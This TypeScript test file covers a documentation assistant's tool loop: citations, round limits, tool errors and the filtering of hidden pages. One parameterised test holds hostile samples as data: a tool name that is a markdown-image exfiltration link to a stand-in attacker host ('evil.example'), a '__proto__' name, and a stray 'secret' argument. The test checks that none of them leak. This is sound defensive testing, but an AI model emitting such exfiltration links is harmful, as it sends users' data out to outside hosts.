import { describe, expect, test } from "vitest";
import { answerEvent } from "../src/contract/answer-events.ts";
import { pagesApart } from "./docs-context.ts";
import { textOf, type WireEvent } from "./harness.ts";
import { createWiredNode, eventsOf, wiredKinds } from "./model-node.ts";
import type { ScriptedReply } from "./model-script.ts";

const create = "How do I create a key?";
const one = { retrievalPageSize: 1 };
const usage = { input: 50, output: 10 };
const look: ScriptedReply = {
  calls: [{ name: "search_docs", input: { query: "what does Acme need to be installed" } }],
};
const said = "Acme needs Node 24 [2].";
const shown = "Acme needs Node 24 [1].";

describe.each(wiredKinds)("%s", (kind) => {
  test("what a tool has found can be cited, is verified and recorded", async () => {
    const script = [
      { ...look, usage },
      { pieces: [said], usage },
    ];
    const wired = await createWiredNode(kind, script);
    const events = await wired.ask(create, one);
    for (const { threadId, ...event } of events) expect(answerEvent.parse(event)).toEqual(event);
    expect(statuses(events)).toEqual(["searching", "writing", "reading", "writing"]);
    expect(eventsOf(events, "tool-input-available")).toEqual([
      {
        type: "tool-input-available",
        toolCallId: "call-1",
        toolName: "search_docs",
        input: { query: "what does Acme need to be installed", limit: 5 },
        dynamic: true,
      },
    ]);
    expect(eventsOf(events, "tool-output-available")).toMatchObject([
      {
        toolCallId: "call-1",
        dynamic: true,
        output: { passages: [{ number: 2, path: "install.md" }, { number: 1 }] },
      },
    ]);
    expect(textOf(events)).toBe(shown);
    expect(eventsOf(events, "data-citations")).toMatchObject([
      { data: [{ n: 1, path: "install.md", supported: true }] },
    ]);
    expect(wired.server.requests).toHaveLength(2);
    const [answer] = await wired.answers();
    expect(answer?.state).toBe("answered");
    expect(answer?.passages.length).toBeGreaterThan(1);
    expect(await wired.usage()).toMatchObject([{ inputTokens: 50 }, { inputTokens: 50 }]);
  });

  test("a page that was read can be cited", async () => {
    const read = { name: "read_page", input: { path: "install.md", startLine: 3, endLine: 9 } };
    const script = [{ calls: [read] }, { pieces: ["Acme needs Node 24 [2]."] }];
    const wired = await createWiredNode(kind, script);
    const events = await wired.ask(create, one);
    expect(textOf(events)).toBe("Acme needs Node 24 [1].");
    expect(eventsOf(events, "data-citations")).toMatchObject([
      { data: [{ path: "install.md", startLine: 9, endLine: 9, supported: true }] },
    ]);
  });

  test("the last round is for the answer alone", async () => {
    const script = [look, look, look, { pieces: [said] }];
    const wired = await createWiredNode(kind, script);
    const events = await wired.ask(create, one);
    expect(textOf(events)).toBe(shown);
    const choices = wired.server.requests.map(({ body }) => JSON.stringify(body.tool_choice));
    expect(choices).toHaveLength(4);
    expect(choices.slice(0, 3).join(" ")).not.toContain("none");
    expect(choices[3]).toContain("none");
    const ids = eventsOf(events, "tool-input-available").map((event) => event.toolCallId);
    expect(ids).toEqual(["call-1", "call-2", "call-3"]);
  });

  test("a model that never stops calling is replaced, and paid for", async () => {
    const wired = await createWiredNode(kind, [{ ...look, usage }]);
    const events = await wired.ask(create);
    expect(wired.server.requests).toHaveLength(4);
    expect(textOf(events)).toMatch(/^The language model cannot be reached.*acme keys create/s);
    expect(eventsOf(events, "tool-input-available")).toHaveLength(3);
    expect(await wired.answers()).toMatchObject([{ state: "answered", error: "" }]);
    expect(await wired.usage()).toHaveLength(4);
  });

  test("a model that calls in the last round is heard for what it says beside it", async () => {
    const last = { pieces: [said], ...look };
    const wired = await createWiredNode(kind, [look, look, look, last]);
    const events = await wired.ask(create, one);
    expect(textOf(events)).toBe(shown);
    expect(events.at(-1)?.type).toBe("finish");
  });

  test.each([
    ["arguments that are no JSON", "search_docs", '{"query": "rev'],
    ["arguments of the wrong type", "search_docs", { query: ["revoke"], secret: "leaked words" }],
    ["a tool that is not there", "![x](https://evil.example/?leaked)", {}],
    ["a name every object has", "__proto__", {}],
    ["a page that is not there", "read_page", { path: "leaked words.md" }],
  ])("%s are told to the model, which goes on", async (_, name, input) => {
    const wired = await createWiredNode(kind, [
      { calls: [{ name, input }] },
      { pieces: ["Run `acme keys create` to make a key [1]."] },
    ]);
    const events = await wired.ask(create);
    expect(textOf(events)).toContain("acme keys create");
    const [error] = eventsOf(events, "tool-output-error");
    expect(error).toMatchObject({ toolCallId: "call-1", dynamic: true });
    expect(error?.errorText).toMatch(/^(The tool could not be used|There is no such page)/);
    expect(JSON.stringify(eventsOf(events, "tool-output-error"))).not.toContain("leaked");
    expect(JSON.stringify(events)).not.toContain("evil");
    expect(events.at(-1)?.type).toBe("finish");
    expect(wired.server.requests).toHaveLength(2);
  });

  test("a fault behind a tool's result is given up for the docs' own words", async () => {
    const wired = await createWiredNode(kind, [{ ...look, usage }, { fault: { status: 529 } }]);
    const events = await wired.ask(create);
    expect(wired.server.requests).toHaveLength(5);
    expect(textOf(events)).toMatch(/^The language model cannot be reached.*acme keys create/s);
    expect(await wired.answers()).toMatchObject([{ model: "docent-embedded-1" }]);
    expect(await wired.usage()).toMatchObject([{ inputTokens: 50 }]);
  });
});

test("what is said before a tool and after it are paragraphs of one text", async () => {
  const first = { ...look, pieces: ["Let me look."] };
  const wired = await createWiredNode("anthropic", [first, { pieces: [said] }]);
  const events = await wired.ask(create, one);
  expect(textOf(events)).toBe(`Let me look.\n\n${shown}`);
  expect(eventsOf(events, "text-start")).toHaveLength(1);
});

test("a round with many calls runs a few of them", async () => {
  const calls = Array.from({ length: 30 }, () => ({ id: "same", name: "list_pages", input: {} }));
  const script = [{ calls }, { pieces: ["Run `acme keys create` to make a key [1]."] }];
  const wired = await createWiredNode("openai-compatible", script);
  const events = await wired.ask(create);
  const begun = eventsOf(events, "tool-input-available").map((event) => event.toolCallId);
  expect(new Set(begun).size).toBe(begun.length);
  expect(eventsOf(events, "tool-output-available").length).toBeLessThanOrEqual(12);
  expect(textOf(events)).toContain("acme keys create");
});

test("no tool shows a hidden page or one that the question's filter leaves out", async () => {
  const calls = [
    { name: "search_docs", input: { query: "rotate a token in secret, at once", limit: 10 } },
    { name: "grep_docs", input: { text: "MAGIC_WORD" } },
    { name: "list_pages", input: {} },
    { name: "read_page", input: { path: "hidden.md" } },
    { name: "read_page", input: { path: "staff.md" } },
    { name: "read_page", input: { path: "open.md" } },
  ].map((call, index) => ({ ...call, id: `id_${index}` }));
  const script = [{ calls }, { pieces: ["Run `acme tokens rotate` every month [1]."] }];
  const wired = await createWiredNode("anthropic", script, { pages: pagesApart });
  const events = await wired.ask("How do I rotate a token?", { filter: { audience: "readers" } });
  expect(eventsOf(events, "tool-output-available")).toHaveLength(4);
  expect(eventsOf(events, "tool-output-error")).toHaveLength(2);
  expect(statuses(events)).toEqual(["searching", "writing", "reading", "writing"]);
  const seen = JSON.stringify([events, wired.server.requests[1]?.body]);
  expect(seen).toContain("MAGIC_WORD is open");
  expect(seen).not.toMatch(/tokens burn|tokens vanish|for staff|is hidden/);
});

test("statuses are not kept in a reader's messages", async () => {
  const wired = await createWiredNode("anthropic", [look, { pieces: [said] }]);
  const events = await wired.ask(create);
  const kept = eventsOf(events, "data-status").filter((event) => event.transient !== true);
  expect(kept).toEqual([]);
});

test("an answer ends with questions that come next, and the record keeps them", async () => {
  const words = "It concerns this one key and no other key of the project. ".repeat(15);
  const sections = ["Create", "Revoke", "Rotate", "List", "Rename"].map(
    (verb) => `## ${verb} a key\n\nRun \`acme keys ${verb.toLowerCase()}\`. ${words}\n\n`,
  );
  const pages = { "keys.md": `# Keys\n\n${sections.join("")}` };
  const pieces = ["Run `acme keys create` [1]."];
  const wired = await createWiredNode("anthropic", [{ pieces }], { pages });
  const first = await wired.ask(create);
  const [next] = eventsOf(first, "data-suggestions");
  expect(next?.data).toHaveLength(3);
  expect(next?.data).not.toContain(create);
  const threadId = first.at(-1)?.threadId;
  const asked = next?.data[0] ?? "";
  const second = await wired.ask(asked, { threadId });
  const later = eventsOf(second, "data-suggestions").flatMap((event) => event.data);
  expect(later).not.toContain(asked);
  expect(later).not.toContain(create);
  const [answer] = await wired.answers();
  expect(JSON.parse(answer?.suggestions ?? "")).toEqual(next?.data);
});

function statuses(events: WireEvent[]): string[] {
  return eventsOf(events, "data-status").map((event) => event.data.state);
}
